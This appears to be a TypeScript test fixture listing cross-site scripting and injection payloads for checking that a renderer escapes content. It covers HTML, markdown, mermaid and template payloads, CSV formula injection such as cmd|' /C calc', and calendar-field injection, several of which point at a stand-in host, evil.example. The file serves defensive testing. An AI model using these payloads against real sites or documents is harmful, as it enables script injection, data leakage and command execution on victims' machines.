/** What must only ever be shown: each would set `window.__pwned`, or reach for another host, if it were run. */
const run = 'window.__pwned=1'
const evil = 'https://evil.example'

export const payloads = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg/onload=${run}>`,
  `"><svg onload=${run}>`,
  `'-${run}-'`,
  `</textarea></title></style><script>${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${run}>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}">`,
  `<form action="${evil}"><button autofocus onfocus=${run}>x</button></form>`,
  `<style>@import url(${evil}/x.css); * { background: url(${evil}/x.png) }</style>`,
  `<p style="background:url(${evil}/x.png);position:fixed;inset:0">x</p>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt&#58;${run})`,
  `[x](java\tscript:${run})`,
  `[x](vbscript:${run}) [y](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  `[x][y]\n\n[y]: javascript:${run}`,
  `<javascript:${run}>`,
  `![x](javascript:${run}) ![y](data:image/svg+xml,<svg/onload=${run}>)`,
  `![x](${evil}/x.png "x")`,
  `[x](${evil}" onmouseover="${run})`,
  `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${run}>"] --> B\n  click A "javascript:${run}"\n  click B href "${evil}"\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}, "themeCSS": "* { background: url(${evil}/x) }"}}%%\nflowchart LR\n  A["<script>${run}</script>"] --> B\n\`\`\``,
  `\`\`\`mermaid\nsequenceDiagram\n  A->>B: <svg/onload=${run}>\n  link A: x @ javascript:${run}\n\`\`\``,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `{{constructor.constructor('${run}')()}}`,
  `\u202e\u2066<script>${run}</script>\u2069`,
  `\u0000<script>${run}</script>`,
  `]]><script>${run}</script>`,
  `--><script>${run}</script>`,
  `=HYPERLINK("${evil}","x")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `x\r\nBEGIN:VALARM\r\nATTACH:${evil}\r\nEND:VALARM`,
  `x\nATTENDEE:mailto:evil@evil.example`,
  `**bold** & <b>bold</b> & &lt;b&gt;`,
  `<b onx>`,
]

/** The n-th that fits; where none does, the beginning of one. */
export function payloadFor(n: number, longest: number): string {
  const fitting = payloads.filter(payload => payload.length <= longest)
  const [shortest = ''] = payloads.toSorted((a, b) => a.length - b.length)
  return fitting[n % fitting.length] ?? shortest.slice(0, longest)
}
